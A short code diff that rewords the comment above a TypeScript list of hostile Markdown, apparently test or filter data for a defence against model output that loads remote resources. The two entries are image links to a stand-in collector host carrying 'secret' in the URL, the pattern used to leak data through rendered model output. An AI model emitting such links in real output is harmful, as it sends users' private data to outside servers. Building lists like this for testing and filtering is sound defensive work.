@@ -1,4 +1,4 @@
-/** What a model, or a page that it has read, may write to load, run or ask for something. */
+/** Markdown from a model, or from a page it read, that tries to load, run or request something. */
 export const HOSTILE_MARKDOWN: readonly string[] = [
   '![p](https://collector.example/p.png?d=secret)',
   '![p][r]\n\n[r]: https://collector.example/r.png "t"',
